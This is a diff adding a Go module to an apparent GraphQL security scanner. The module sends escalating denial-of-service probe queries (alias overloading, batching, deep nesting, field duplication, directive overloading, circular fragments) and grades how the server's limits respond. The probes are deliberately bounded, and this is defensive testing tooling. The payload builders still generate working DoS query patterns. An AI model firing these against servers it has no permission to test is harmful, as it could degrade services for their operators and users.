@@ -0,0 +1,555 @@
+package analysis
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"regexp"
+	"sort"
+	"strings"
+	"time"
+
+	"github.com/0xDTC/0xGQLForge/internal/schema"
+	"github.com/0xDTC/0xGQLForge/internal/upstream"
+)
+
+// DoS step outcomes.
+const (
+	DoSAccepted = "accepted" // the server executed the payload
+	DoSLimited  = "limited"  // refused by a depth, cost, alias, batch, or rate limit
+	DoSRejected = "rejected" // refused for another reason (validation, unsupported)
+	DoSFailed   = "failed"   // server error or dropped connection
+	DoSTimeout  = "timeout"  // no response within the request timeout
+)
+
+// Safe bounds. Options above the hard limits are clamped so a probe run can
+// never grow past what a production endpoint should shrug off.
+const (
+	defaultDoSMaxRequests  = 60
+	hardDoSMaxRequests     = 200
+	defaultDoSMaxPayload   = 256 << 10
+	hardDoSMaxPayload      = 1 << 20
+	defaultDoSLatencyLimit = 5 * time.Second
+	defaultDoSTimeout      = 15 * time.Second
+	hardDoSTimeout         = 30 * time.Second
+	defaultDoSDelay        = 250 * time.Millisecond
+	dosBaselineSamples     = 3
+)
+
+// dosLimitRe matches error messages servers return when a query hits a
+// protective limit rather than failing validation for another reason.
+var dosLimitRe = regexp.MustCompile(`(?i)too (many|large|deep|complex|expensive)|exceed|maximum|max(imum)?[ _-]?(depth|alias|aliases|complexity|cost|tokens?|directives?|batch)|query (depth|cost|complexity)|depth limit|cost limit|complexity limit|batch(ing|ed)? (is )?(not )?(allowed|disabled|supported|limit)|rate limit|throttl`)
+
+// DoSOptions configures RunDoS. Zero values fall back to the defaults; the
+// request budget, payload size, and timeout are clamped to hard limits.
+type DoSOptions struct {
+	Target Target
+	// Schema supplies real root fields and recursive type paths. Without it
+	// the probes fall back to __typename and introspection types.
+	Schema *schema.Schema
+	// Techniques restricts the run; empty runs all of DoSTechniques.
+	Techniques []string
+	// MaxRequests bounds the total number of requests, baseline included.
+	MaxRequests int
+	// MaxPayloadBytes bounds the size of a single request body.
+	MaxPayloadBytes int
+	// LatencyLimit stops a technique once a response takes this long.
+	LatencyLimit time.Duration
+	// Timeout is the per-request timeout.
+	Timeout time.Duration
+	// Delay is the pause between requests.
+	Delay time.Duration
+	// Upstream controls how requests reach the target. Its timeout is
+	// replaced by Timeout.
+	Upstream upstream.Config
+}
+
+// dosTechnique escalates a payload through sizes. build returns the request
+// body for one size. tolerant techniques keep escalating past validation
+// errors because the parser cost, not execution, is what they measure.
+type dosTechnique struct {
+	name     string
+	desc     string
+	sizes    []int
+	tolerant bool
+	batch    bool
+	build    func(p *dosPlan, size int) []byte
+}
+
+// DoSTechniques lists the technique names RunDoS understands, in run order.
+var DoSTechniques = []string{
+	"alias_overloading", "batching", "deep_nesting",
+	"field_duplication", "directive_overloading", "circular_fragments",
+}
+
+var dosTechniques = map[string]dosTechnique{
+	"alias_overloading": {
+		name:  "alias_overloading",
+		desc:  "Repeats a root field under distinct aliases in one query",
+		sizes: []int{10, 50, 100, 250, 500, 1000},
+		build: func(p *dosPlan, n int) []byte {
+			var b strings.Builder
+			b.WriteString("query {")
+			for i := 0; i < n; i++ {
+				fmt.Fprintf(&b, " a%d: %s", i, p.selection)
+			}
+			b.WriteString(" }")
+			return dosPayload(b.String())
+		},
+	},
+	"batching": {
+		name:  "batching",
+		desc:  "Sends a JSON array of queries in one HTTP request",
+		sizes: []int{2, 10, 25, 50, 100},
+		batch: true,
+		build: func(p *dosPlan, n int) []byte {
+			op := map[string]string{"query": "query { " + p.selection + " }"}
+			ops := make([]map[string]string, n)
+			for i := range ops {
+				ops[i] = op
+			}
+			body, _ := json.Marshal(ops)
+			return body
+		},
+	},
+	"deep_nesting": {
+		name:  "deep_nesting",
+		desc:  "Nests selections along a recursive type path",
+		sizes: []int{3, 5, 8, 12, 16, 24},
+		build: func(p *dosPlan, n int) []byte {
+			return dosPayload(p.path.nested(n))
+		},
+	},
+	"field_duplication": {
+		name:  "field_duplication",
+		desc:  "Repeats the same field selection, forcing field-merge validation",
+		sizes: []int{10, 100, 500, 1000, 2500},
+		build: func(p *dosPlan, n int) []byte {
+			return dosPayload("query { " + strings.Repeat(p.selection+" ", n) + "}")
+		},
+	},
+	"directive_overloading": {
+		name:     "directive_overloading",
+		desc:     "Attaches many directives to a single field",
+		sizes:    []int{10, 50, 100, 250, 500},
+		tolerant: true,
+		build: func(p *dosPlan, n int) []byte {
+			return dosPayload("query { __typename" + strings.Repeat(" @include(if: true)", n) + " }")
+		},
+	},
+	"circular_fragments": {
+		name:     "circular_fragments",
+		desc:     "Spreads fragments in a cycle, which spec-compliant servers must reject",
+		sizes:    []int{2, 8},
+		tolerant: true,
+		build: func(p *dosPlan, n int) []byte {
+			var b strings.Builder
+			fmt.Fprintf(&b, "query { ...F0 }")
+			for i := 0; i < n; i++ {
+				fmt.Fprintf(&b, " fragment F%d on %s { __typename ...F%d }", i, p.queryType, (i+1)%n)
+			}
+			return dosPayload(b.String())
+		},
+	},
+}
+
+// dosPlan holds the schema-derived pieces the payload builders share.
+type dosPlan struct {
+	queryType string
+	selection string // a cheap root selection, e.g. "me { __typename }"
+	path      dosPath
+}
+
+// dosPath is a root prefix followed by a cycle of fields that leads back to
+// its own start, e.g. user -> friends -> friends.
+type dosPath struct {
+	prefix []string
+	cycle  []string
+}
+
+// nested builds a query whose selection is depth fields deep.
+func (p dosPath) nested(depth int) string {
+	fields := make([]string, 0, depth)
+	fields = append(fields, p.prefix...)
+	for i := 0; len(fields) < depth; i++ {
+		fields = append(fields, p.cycle[i%len(p.cycle)])
+	}
+	var b strings.Builder
+	b.WriteString("query {")
+	for _, f := range fields {
+		b.WriteString(" " + f + " {")
+	}
+	b.WriteString(" __typename")
+	b.WriteString(strings.Repeat(" }", len(fields)))
+	b.WriteString(" }")
+	return b.String()
+}
+
+// introspectionPath recurses through __Type.fields.type, which every server
+// with introspection enabled exposes.
+var introspectionPath = dosPath{prefix: []string{"__schema", "types"}, cycle: []string{"fields", "type"}}
+
+// RunDoS probes the target with each technique at increasing sizes and
+// reports where the server's limits kick in. A technique stops escalating at
+// the first refusal, server failure, or response slower than LatencyLimit.
+func RunDoS(opts DoSOptions) ([]schema.DoSResult, error) {
+	if err := opts.Target.Validate(); err != nil {
+		return nil, err
+	}
+	opts = clampDoSOptions(opts)
+
+	names := opts.Techniques
+	if len(names) == 0 {
+		names = DoSTechniques
+	}
+	for _, name := range names {
+		if _, ok := dosTechniques[name]; !ok {
+			return nil, fmt.Errorf("unknown DoS technique %q", name)
+		}
+	}
+
+	cfg := opts.Upstream
+	cfg.Timeout = opts.Timeout
+	client := upstream.NewClient(cfg)
+	requests := 0
+
+	send := func(body []byte, batch bool, size int) schema.DoSStep {
+		if requests > 0 {
+			time.Sleep(opts.Delay)
+		}
+		requests++
+		return sendDoSProbe(client, opts.Target, body, batch, size)
+	}
+
+	// Baseline: the median latency of a trivial query.
+	var samples []int64
+	for i := 0; i < dosBaselineSamples; i++ {
+		step := send(dosPayload("query { __typename }"), false, 1)
+		if step.Outcome == DoSFailed || step.Outcome == DoSTimeout {
+			return nil, fmt.Errorf("baseline request failed: %s", step.Message)
+		}
+		samples = append(samples, step.DurationMs)
+	}
+	sort.Slice(samples, func(i, j int) bool { return samples[i] < samples[j] })
+	baseline := samples[len(samples)/2]
+
+	plan := newDoSPlan(opts.Schema)
+	var results []schema.DoSResult
+	for _, name := range names {
+		t := dosTechniques[name]
+		result := schema.DoSResult{Technique: t.name, Description: t.desc, BaselineMs: baseline}
+		result.StopReason = "max_size"
+
+		for _, size := range t.sizes {
+			if requests >= opts.MaxRequests {
+				result.StopReason = "budget"
+				break
+			}
+			body := t.build(plan, size)
+			if len(body) > opts.MaxPayloadBytes {
+				result.StopReason = "payload_size"
+				break
+			}
+			step := send(body, t.batch, size)
+			result.Steps = append(result.Steps, step)
+
+			stop := ""
+			switch step.Outcome {
+			case DoSAccepted:
+				result.MaxAccepted = size
+			case DoSLimited:
+				stop = "limit"
+			case DoSRejected:
+				if !t.tolerant {
+					stop = "rejected"
+				}
+			case DoSFailed, DoSTimeout:
+				stop = "failure"
+			}
+			if stop == "" && time.Duration(step.DurationMs)*time.Millisecond >= opts.LatencyLimit {
+				stop = "latency"
+			}
+			if stop != "" {
+				result.StopReason = stop
+				if stop == "limit" || stop == "rejected" {
+					result.LimitAt = size
+				}
+				break
+			}
+		}
+		assessDoS(&result, t)
+		results = append(results, result)
+	}
+	return results, nil
+}
+
+// clampDoSOptions fills in defaults and enforces the hard limits.
+func clampDoSOptions(opts DoSOptions) DoSOptions {
+	if opts.MaxRequests <= 0 {
+		opts.MaxRequests = defaultDoSMaxRequests
+	}
+	opts.MaxRequests = min(opts.MaxRequests, hardDoSMaxRequests)
+	if opts.MaxPayloadBytes <= 0 {
+		opts.MaxPayloadBytes = defaultDoSMaxPayload
+	}
+	opts.MaxPayloadBytes = min(opts.MaxPayloadBytes, hardDoSMaxPayload)
+	if opts.LatencyLimit <= 0 {
+		opts.LatencyLimit = defaultDoSLatencyLimit
+	}
+	if opts.Timeout <= 0 {
+		opts.Timeout = defaultDoSTimeout
+	}
+	opts.Timeout = min(opts.Timeout, hardDoSTimeout)
+	if opts.Delay <= 0 {
+		opts.Delay = defaultDoSDelay
+	}
+	return opts
+}
+
+// assessDoS decides whether a finished technique shows a DoS weakness.
+func assessDoS(r *schema.DoSResult, t dosTechnique) {
+	if len(r.Steps) == 0 {
+		return
+	}
+	last := r.Steps[len(r.Steps)-1]
+	slow := last.DurationMs >= 500 && last.DurationMs >= 5*max(r.BaselineMs, 1)
+
+	switch {
+	case t.name == "circular_fragments":
+		for _, s := range r.Steps {
+			if s.Outcome == DoSAccepted || s.Outcome == DoSFailed || s.Outcome == DoSTimeout {
+				r.Vulnerable, r.Severity = true, "critical"
+				r.Evidence = fmt.Sprintf("a %d-fragment cycle was %s instead of rejected", s.Size, s.Outcome)
+				return
+			}
+		}
+		r.Evidence = last.Message
+	case r.StopReason == "failure":
+		r.Vulnerable, r.Severity = true, "high"
+		r.Evidence = fmt.Sprintf("server %s at size %d: %s", last.Outcome, last.Size, last.Message)
+	case r.StopReason == "latency":
+		r.Vulnerable, r.Severity = true, "high"
+		r.Evidence = fmt.Sprintf("size %d took %dms against a %dms baseline", last.Size, last.DurationMs, r.BaselineMs)
+	case last.Outcome == DoSAccepted && r.StopReason != "limit" && r.StopReason != "rejected":
+		r.Vulnerable, r.Severity = true, "medium"
+		if slow {
+			r.Severity = "high"
+		}
+		r.Evidence = fmt.Sprintf("size %d executed without hitting a limit (%dms, baseline %dms)", r.MaxAccepted, last.DurationMs, r.BaselineMs)
+	case t.tolerant && slow:
+		r.Vulnerable, r.Severity = true, "medium"
+		r.Evidence = fmt.Sprintf("size %d took %dms to reject against a %dms baseline", last.Size, last.DurationMs, r.BaselineMs)
+	default:
+		r.Evidence = last.Message
+	}
+}
+
+// sendDoSProbe sends one payload and classifies the response.
+func sendDoSProbe(client *http.Client, target Target, body []byte, batch bool, size int) schema.DoSStep {
+	step := schema.DoSStep{Size: size, Bytes: len(body)}
+	req, err := target.NewRequest(body)
+	if err != nil {
+		step.Outcome, step.Message = DoSFailed, err.Error()
+		return step
+	}
+
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		step.DurationMs = time.Since(start).Milliseconds()
+		var netErr net.Error
+		if errors.As(err, &netErr) && netErr.Timeout() {
+			step.Outcome = DoSTimeout
+		} else {
+			step.Outcome = DoSFailed
+		}
+		step.Message = err.Error()
+		return step
+	}
+	respBody, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20)) // 1MB limit
+	resp.Body.Close()
+	step.DurationMs = time.Since(start).Milliseconds()
+	step.StatusCode = resp.StatusCode
+	if err != nil {
+		step.Outcome, step.Message = DoSFailed, "read response: "+err.Error()
+		return step
+	}
+	step.Outcome, step.Message = classifyDoSResponse(resp.StatusCode, respBody, batch, size)
+	return step
+}
+
+// dosResponse is one GraphQL response, alone or inside a batch.
+type dosResponse struct {
+	Data   json.RawMessage `json:"data"`
+	Errors []struct {
+		Message string `json:"message"`
+	} `json:"errors"`
+}
+
+// classifyDoSResponse maps a response to a DoS step outcome and a short
+// message. A batch of size n is only accepted if all n results came back.
+func classifyDoSResponse(status int, body []byte, batch bool, size int) (string, string) {
+	if status == http.StatusRequestEntityTooLarge || status == http.StatusTooManyRequests {
+		return DoSLimited, fmt.Sprintf("HTTP %d", status)
+	}
+	if status >= 500 {
+		return DoSFailed, fmt.Sprintf("HTTP %d: %s", status, truncate(string(body), 200))
+	}
+
+	var responses []dosResponse
+	if batch {
+		if err := json.Unmarshal(body, &responses); err != nil {
+			var single dosResponse
+			if json.Unmarshal(body, &single) != nil {
+				return DoSRejected, truncate(string(body), 200)
+			}
+			responses = []dosResponse{single}
+		}
+	} else {
+		var single dosResponse
+		if err := json.Unmarshal(body, &single); err != nil {
+			return DoSRejected, fmt.Sprintf("HTTP %d: %s", status, truncate(string(body), 200))
+		}
+		responses = []dosResponse{single}
+	}
+
+	var msgs []string
+	withData := 0
+	for _, r := range responses {
+		if dataPresent(r.Data) {
+			withData++
+		}
+		for _, e := range r.Errors {
+			msgs = append(msgs, e.Message)
+		}
+	}
+	msg := truncate(strings.Join(msgs, "; "), 200)
+
+	want := 1
+	if batch {
+		want = size
+	}
+	if withData >= want && status < 400 {
+		return DoSAccepted, msg
+	}
+	if dosLimitRe.MatchString(msg) {
+		return DoSLimited, msg
+	}
+	if batch && withData > 0 {
+		return DoSLimited, fmt.Sprintf("%d of %d batched operations returned data", withData, size)
+	}
+	if msg == "" {
+		msg = fmt.Sprintf("HTTP %d: %s", status, truncate(string(body), 200))
+	}
+	return DoSRejected, msg
+}
+
+// dosPayload wraps a query in a JSON request body.
+func dosPayload(query string) []byte {
+	body, _ := json.Marshal(map[string]string{"query": query})
+	return body
+}
+
+// newDoSPlan picks the root selection and recursive path for s. A nil schema
+// or one without usable fields falls back to __typename and introspection.
+func newDoSPlan(s *schema.Schema) *dosPlan {
+	plan := &dosPlan{queryType: "Query", selection: "__typename", path: introspectionPath}
+	if s == nil || s.QueryType == "" {
+		return plan
+	}
+	plan.queryType = s.QueryType
+	root := schema.FindType(s, s.QueryType)
+	if root == nil {
+		return plan
+	}
+
+	index := make(map[string]*schema.Type, len(s.Types))
+	for i := range s.Types {
+		index[s.Types[i].Name] = &s.Types[i]
+	}
+
+	for _, f := range root.Fields {
+		if hasRequiredArgs(f) || strings.HasPrefix(f.Name, "__") {
+			continue
+		}
+		base := index[f.Type.BaseName()]
+		if base == nil || base.Kind == schema.KindScalar || base.Kind == schema.KindEnum {
+			plan.selection = f.Name
+			break
+		}
+		if base.Kind == schema.KindObject || base.Kind == schema.KindInterface {
+			plan.selection = f.Name + " { __typename }"
+			break
+		}
+	}
+
+	var best *dosPath
+	for _, f := range root.Fields {
+		if hasRequiredArgs(f) || !isSelectable(index[f.Type.BaseName()]) {
+			continue
+		}
+		cycle := shortestCycle(index, f.Type.BaseName())
+		if cycle == nil {
+			continue
+		}
+		if best == nil || len(cycle) < len(best.cycle) {
+			best = &dosPath{prefix: []string{f.Name}, cycle: cycle}
+		}
+	}
+	if best != nil {
+		plan.path = *best
+	}
+	return plan
+}
+
+// shortestCycle returns the field names of the shortest path from start back
+// to start through argument-free object fields, or nil if there is none.
+func shortestCycle(index map[string]*schema.Type, start string) []string {
+	type node struct {
+		typeName string
+		path     []string
+	}
+	visited := map[string]bool{}
+	queue := []node{{typeName: start}}
+	for len(queue) > 0 {
+		n := queue[0]
+		queue = queue[1:]
+		t := index[n.typeName]
+		for _, f := range t.Fields {
+			if hasRequiredArgs(f) || strings.HasPrefix(f.Name, "__") {
+				continue
+			}
+			next := f.Type.BaseName()
+			if !isSelectable(index[next]) {
+				continue
+			}
+			path := append(append([]string(nil), n.path...), f.Name)
+			if next == start {
+				return path
+			}
+			if !visited[next] {
+				visited[next] = true
+				queue = append(queue, node{typeName: next, path: path})
+			}
+		}
+	}
+	return nil
+}
+
+// isSelectable reports whether t can take a plain sub-selection.
+func isSelectable(t *schema.Type) bool {
+	return t != nil && (t.Kind == schema.KindObject || t.Kind == schema.KindInterface)
+}
+
+// hasRequiredArgs reports whether f cannot be selected without arguments.
+func hasRequiredArgs(f schema.Field) bool {
+	for _, a := range f.Args {
+		if a.IsRequired() {
+			return true
+		}
+	}
+	return false
+}